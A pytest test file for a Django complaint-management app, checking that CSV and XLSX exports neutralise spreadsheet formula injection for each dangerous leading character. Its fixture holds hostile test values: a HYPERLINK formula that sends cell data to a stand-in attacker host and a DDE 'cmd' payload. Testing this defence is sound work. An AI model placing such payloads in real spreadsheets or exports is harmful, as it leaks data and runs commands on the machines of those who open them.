"""Exports that are safe to open (OWASP CSV injection): a cell a spreadsheet would run as a
formula is neutralised in CSV and stored as text in XLSX, for every dangerous first
character."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import file_report

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://penyerang.test/?d="&A1,"klik")'


@pytest.fixture
def hostile(category, people):
    return {prefix: file_report(category, title=f"{prefix}{PAYLOAD}",
                                reporter_name=f"{prefix}cmd|' /C calc'!A0")
            for prefix in PREFIXES}


def download(client, user, fmt):
    client.force_login(user)
    response = client.get(reverse("disposition:export_complaints", args=[fmt]),
                          {"periode": "tahun-ini", "kolom": ["kode", "judul", "nama"]})
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_csv_cells_that_start_a_formula_are_neutralised(client, people, hostile, prefix):
    rows = list(csv.reader(io.StringIO(download(client, people.alice, "csv").decode()
                                       .lstrip("\ufeff"), newline="")))
    (row,) = [r for r in rows if r[0] == hostile[prefix].tracking_code]
    assert row[1] == f"'{prefix}{PAYLOAD}"
    assert row[2] == f"'{prefix}cmd|' /C calc'!A0"


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_xlsx_cells_that_start_a_formula_are_text(client, people, hostile, prefix):
    sheet = load_workbook(io.BytesIO(download(client, people.alice, "xlsx"))).active
    (row,) = [r for r in sheet.iter_rows(min_row=2)
              if r[0].value == hostile[prefix].tracking_code]
    # (XML reads a lone carriage return back as a line feed: text all the same)
    assert (row[1].data_type, row[1].value[1:]) == ("s", PAYLOAD)
    assert row[2].data_type == "s"


def test_numbers_stay_numbers(client, people, units, category):
    from tests.disposition.helpers import dispose_to

    dispose_to(file_report(category, title="Biasa"), units.dpu, people.alice)
    client.force_login(people.alice)
    response = client.get(reverse("disposition:export_units", args=["xlsx"]),
                          {"periode": "tahun-ini"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert isinstance(sheet["B2"].value, int)
